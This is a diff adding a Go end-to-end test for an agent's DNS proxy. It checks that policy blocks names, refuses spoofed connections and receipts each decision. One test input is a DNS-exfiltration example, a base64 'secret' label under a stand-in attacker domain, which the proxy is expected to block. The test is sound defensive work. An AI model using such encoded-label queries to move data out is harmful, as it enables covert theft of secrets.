@@ -1,0 +1,142 @@
+package agent
+
+import (
+	"fmt"
+	"strings"
+	"sync"
+	"testing"
+
+	"golang.org/x/net/dns/dnsmessage"
+)
+
+// dnsClientPy is a protected workload's resolver and client: it asks
+// RESOLVER (any address, port 53) for NAME's A record over UDP and prints
+// "rcode=N addrs=A,B"; with CONNECT=PORT it then sends an HTTP request for
+// NAME to the first address and prints the status line (or "closed").
+const dnsClientPy = `
+import os, random, socket, struct
+name, resolver = os.environ["NAME"], os.environ["RESOLVER"]
+qid = random.randrange(65536)
+q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+for label in name.rstrip(".").split("."):
+    q += bytes([len(label)]) + label.encode()
+q += b"\x00" + struct.pack(">HH", 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.sendto(q, (resolver, 53))
+m, _ = s.recvfrom(4096)
+rcode, an = m[3] & 0xF, struct.unpack(">H", m[6:8])[0]
+i = 12
+while m[i] != 0:
+    i += 1 + m[i]
+i += 5
+addrs = []
+def skip(i):
+    while True:
+        if m[i] & 0xC0 == 0xC0:
+            return i + 2
+        if m[i] == 0:
+            return i + 1
+        i += 1 + m[i]
+for _ in range(an):
+    i = skip(i)
+    typ, _, _, ln = struct.unpack(">HHIH", m[i:i+10])
+    if typ == 1:
+        addrs.append(socket.inet_ntoa(m[i+10:i+14]))
+    i += 10 + ln
+line = "rcode=%d addrs=%s" % (rcode, ",".join(addrs))
+port = os.environ.get("CONNECT")
+if port and addrs:
+    c = socket.create_connection((addrs[0], int(port)), timeout=5)
+    c.sendall(("GET /x HTTP/1.0\r\nHost: %s\r\n\r\n" % name.rstrip(".")).encode())
+    r = c.recv(4096).split(b"\r\n")[0].decode()
+    line += " http=" + (r or "closed")
+print(line)
+`
+
+// TestDNSProxyDecidesAndTells runs the agent's own DNS proxy end to end: a
+// protected workload's queries, sent to an address no resolver serves, are
+// decided by its policy; a blocked name and an exfiltrating label get
+// NXDOMAIN and never reach the upstream; an allowed name is answered by the
+// upstream, and what the workload was told is the anti-spoofing truth: a
+// connection naming a host the agent cannot resolve itself (no agent.hosts
+// entry, no system DNS) is allowed to the address the workload was given
+// and refused to another.
+func TestDNSProxyDecidesAndTells(t *testing.T) {
+	e := newE2E(t, e2eOptions{dnsProxy: true})
+	var mu sync.Mutex
+	var asked []string
+	answerDNS(e.dns, true, func(q dnsmessage.Question) ([4]byte, bool) {
+		mu.Lock()
+		asked = append(asked, q.Name.String())
+		mu.Unlock()
+		switch q.Name.String() {
+		case "cdn.allowed.test.":
+			return [4]byte{127, 0, 0, 1}, q.Type == dnsmessage.TypeA
+		case "elsewhere.allowed.test.":
+			return [4]byte{127, 0, 0, 3}, q.Type == dnsmessage.TypeA
+		}
+		return [4]byte{}, false
+	})
+	resolve := func(name, connect string) string {
+		t.Helper()
+		env := []string{"env", "NAME=" + name, "RESOLVER=127.0.0.53"}
+		if connect != "" {
+			env = append(env, "CONNECT="+connect)
+		}
+		out, code := e.run(env[0], append(env[1:], "python3", "-c", dnsClientPy)...)
+		if code != 0 {
+			t.Fatalf("workload resolving %s: exit %d, %q", name, code, out)
+		}
+		return out
+	}
+	port := fmt.Sprint(e.httpAddr.Port())
+
+	// Allowed, and connected to exactly the address it was told.
+	if got := resolve("cdn.allowed.test.", port); !strings.HasPrefix(got, "rcode=0 addrs=127.0.0.1 http=HTTP/1.") || !strings.Contains(got, " 200") {
+		t.Errorf("allowed name: %q, want its answer and a 200 from the told address", got)
+	}
+	// Told 127.0.0.3: the same server at 127.0.0.1 under that name is
+	// another address than the workload was given.
+	out, code := e.run("env", "NAME=elsewhere.allowed.test.", "RESOLVER=127.0.0.53", "python3", "-c",
+		strings.Replace(dnsClientPy, "addrs[0], int(port)", `"127.0.0.1", int(port)`, 1)+"\n", "x")
+	if code != 0 || !strings.HasPrefix(out, "rcode=0 addrs=127.0.0.3") || strings.Contains(out, " 200") {
+		t.Errorf("name told 127.0.0.3, connected to 127.0.0.1: exit %d, %q; want refused", code, out)
+	}
+	// Blocked by the policy, and an exfiltrating label: NXDOMAIN, and
+	// the upstream never hears of them.
+	for _, name := range []string{"forbidden.test.", "c2VjcmV0.attacker.test."} {
+		if got := resolve(name, ""); got != "rcode=3 addrs=" {
+			t.Errorf("%s: %q, want NXDOMAIN", name, got)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	for _, n := range asked {
+		if strings.Contains(n, "attacker") || strings.Contains(n, "forbidden") {
+			t.Errorf("the upstream was asked %q", n)
+		}
+	}
+	if len(asked) == 0 {
+		t.Error("the upstream was never asked: the allowed names were not forwarded")
+	}
+	// Every decision was receipted: the queries' and the connections'.
+	var dnsAllow, dnsDeny int
+	e.mu.Lock()
+	for _, d := range e.decided {
+		if d.Protocol == "dns" {
+			if d.Verdict == "allow" {
+				dnsAllow++
+			} else {
+				dnsDeny++
+			}
+			if d.ReceiptID == "" {
+				t.Errorf("DNS decision without a receipt: %+v", d)
+			}
+		}
+	}
+	e.mu.Unlock()
+	if dnsAllow < 2 || dnsDeny < 2 {
+		t.Errorf("DNS decisions: %d allowed, %d denied; want 2 and 2", dnsAllow, dnsDeny)
+	}
+}
